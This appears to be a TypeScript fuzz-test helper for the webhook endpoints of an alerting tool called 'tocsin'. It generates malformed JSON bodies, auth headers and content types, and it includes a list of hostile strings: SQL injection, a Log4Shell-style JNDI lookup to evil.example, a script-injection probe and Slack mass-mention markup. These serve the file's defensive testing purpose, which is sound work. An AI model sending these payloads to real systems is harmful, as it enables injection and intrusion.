import fc from 'fast-check';
import type { WebhookKind } from '../../src/adapters/webhooks/parsed-webhook';
import { PATHS, payload } from './webhook-payloads';
import { PROCESS_TOKENS } from './policies';

/** Every webhook endpoint of `tocsin serve`. */
export const ENDPOINTS: Readonly<Record<WebhookKind, string>> = PATHS;

export const SAMPLES: Readonly<Record<WebhookKind, unknown>> = {
  alertmanager: payload('alertmanager-firing.json'),
  grafana: payload('grafana-firing.json'),
  datadog: payload('datadog-webhook-default-rendered.json'),
  pagerduty: { ...payload('pagerduty-v2-trigger.json'), routing_key: PROCESS_TOKENS.pagerduty },
  generic: { dedup_key: 'disk/db-1', action: 'trigger', title: 'Disk full', severity: 'sev2', source: 'db-1', details: { free: '1%' } },
};

/** What an attacker or a broken sender puts where text goes. */
export const NASTY_TEXT = [
  "'); DROP TABLE incidents; --",
  "Robert'); DELETE FROM alerts WHERE ('1'='1",
  '" OR 1=1 --',
  '<!channel> <!here> <!everyone> @channel',
  '<@U0ADMIN> <#C0GENERAL> <https://evil.example|click here>',
  '*bold* _it_ ~strike~ `code` ```block``` > quote',
  '&lt;!channel&gt; &amp;',
  '\u0000nul\u0000',
  '\ud800 lone surrogate',
  '🔥'.repeat(50),
  '\u202eRTL override',
  'x'.repeat(1_000),
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} <script>alert(1)</script>',
];

/** `value` with the thing at a random path (chosen by `picks`) replaced by `replacement`, or deleted. */
function editAt(value: unknown, picks: readonly number[], replacement: unknown): unknown {
  if (typeof value !== 'object' || value === null || picks.length === 0) return replacement;
  const copy: any = structuredClone(value);
  const keys = Object.keys(copy);
  if (keys.length === 0) return replacement;
  const key = keys[picks[0]! % keys.length]!;
  if (picks.length === 1 && replacement === undefined) {
    if (Array.isArray(copy)) copy.splice(Number(key), 1);
    else delete copy[key];
  } else copy[key] = editAt(copy[key], picks.slice(1), replacement);
  return copy;
}

const nasty = fc.constantFrom(...NASTY_TEXT);

/** A body: the real sample broken somewhere, any JSON, hostile strings in it, or not JSON at all. */
export function bodyArb(kind: WebhookKind): fc.Arbitrary<string | Uint8Array> {
  const replacement = fc.oneof(fc.jsonValue({ maxDepth: 3 }), nasty, fc.constant(undefined));
  const edited = fc.tuple(fc.array(fc.nat(), { minLength: 1, maxLength: 4 }), replacement).map(([picks, r]) => JSON.stringify(editAt(SAMPLES[kind], picks, r)) ?? 'null');
  return fc.oneof(
    { weight: 4, arbitrary: edited },
    { weight: 1, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v) ?? 'null') },
    { weight: 1, arbitrary: fc.string({ unit: 'binary' }) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 512 }) },
    { weight: 1, arbitrary: fc.constant(JSON.stringify(SAMPLES[kind])) },
  );
}

/** The token in every way a sender may present it, right and wrong. */
export function authArb(kind: WebhookKind): fc.Arbitrary<{ headers: Record<string, string>; query: string }> {
  const token = PROCESS_TOKENS[kind];
  return fc.oneof(
    fc.constant({ headers: { authorization: `Bearer ${token}` }, query: '' }),
    fc.constant({ headers: { authorization: `Basic ${Buffer.from(`am:${token}`).toString('base64')}` }, query: '' }),
    fc.constant({ headers: {}, query: `?token=${encodeURIComponent(token)}` }),
    fc.constant({ headers: {}, query: '' }),
    fc.string().map((s) => ({ headers: { authorization: `Bearer ${s.replace(/[^\x21-\x7e]/g, '')}` }, query: '' })),
    fc.constant({ headers: { authorization: `Basic ${'A'.repeat(4000)}` }, query: '' }),
    fc.constant({ headers: {}, query: '?token=%ZZ&token=' }),
  );
}

export const contentTypeArb = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/json; charset=latin1',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  '',
  ';;;',
);

export const methodArb = fc.constantFrom('POST', 'POST', 'POST', 'PUT', 'GET', 'DELETE', 'PATCH');

/** `depth` nested arrays around `inner`, built as text: the test process would overflow building them as values. */
export const nestedArrays = (depth: number, inner = ''): string => '['.repeat(depth) + inner + ']'.repeat(depth);
